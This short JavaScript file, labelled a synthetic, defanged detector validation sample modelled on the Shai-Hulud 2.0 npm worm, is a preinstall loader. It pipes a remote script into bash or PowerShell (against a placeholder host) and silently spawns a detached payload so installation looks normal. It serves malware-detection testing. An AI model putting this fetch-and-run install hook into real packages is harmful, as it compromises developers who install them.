// SYNTHETIC, DEFANGED malwi validation sample - modelled on Shai-Hulud 2.0 / "The Second Coming" (November 2025); never run.
// Preinstall: install the Bun runtime if it is missing, then run the payload with it in the
// background so npm install finishes normally.
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function hasBun() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch (e) {
    return false;
  }
}

function installBun() {
  if (process.platform === 'win32') {
    execSync('powershell -c "irm https://bun-install.example.invalid/install.ps1|iex"', { stdio: 'ignore' });
  } else {
    execSync('curl -fsSL https://bun-install.example.invalid/install | bash', { stdio: 'ignore' });
  }
  return path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
}

try {
  const bun = hasBun() ? 'bun' : installBun();
  const payload = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(payload)) {
    spawn(bun, [payload], { detached: true, stdio: 'ignore' }).unref();
  }
} catch (e) {}
